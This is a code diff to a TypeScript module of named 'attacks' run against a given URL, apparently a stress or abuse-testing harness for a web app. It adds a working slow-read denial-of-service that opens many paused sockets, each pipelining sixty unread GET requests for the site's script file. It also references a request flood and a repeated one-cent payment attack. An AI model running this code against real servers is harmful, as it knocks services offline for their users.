@@ -172,6 +172,21 @@ export const attacks: Readonly<Record<string, Attack>> = {
         .catch(() => null);
     }),
 
+  "pages-unread": async ({ url, untilMs }) => {
+    const { hostname, port } = new URL(url);
+    const path = await scriptOf(url);
+    // Many times in one breath: each answer is an open file, and what has been read of it.
+    const breath = `GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(60);
+    await repeatedly(300, untilMs, async () => {
+      const socket = connect(Number(port), hostname).pause();
+      socket.on("error", () => undefined);
+      const ended = new Promise<void>((done) => socket.once("close", () => done()));
+      socket.write(breath);
+      await Promise.race([ended, pause(untilMs - performance.now())]);
+      socket.destroy();
+    });
+  },
+
   "bent-figures": flood(40, 3, (number) =>
     number % 2 === 0
       ? enter(number.toString(16).padStart(32, "f"))
@@ -180,6 +195,15 @@ export const attacks: Readonly<Record<string, Attack>> = {
 
   cents: ({ url, untilMs }) => payCents(url, untilMs),
 };
+
+/** Of the phones' page: its largest file. */
+async function scriptOf(url: string): Promise<string> {
+  const page = await fetch(`${url}/`)
+    .then((answer) => answer.text())
+    .catch(() => "");
+  const [first = "/"] = [...page.matchAll(/"([^"]+\.js)"/g)].map(([, file = ""]) => file);
+  return new URL(first, `${url}/`).pathname;
+}
 
 /** Sixty accounts pay one cent after the other to one and the same. */
 function payCents(url: string, untilMs: number): Promise<void> {
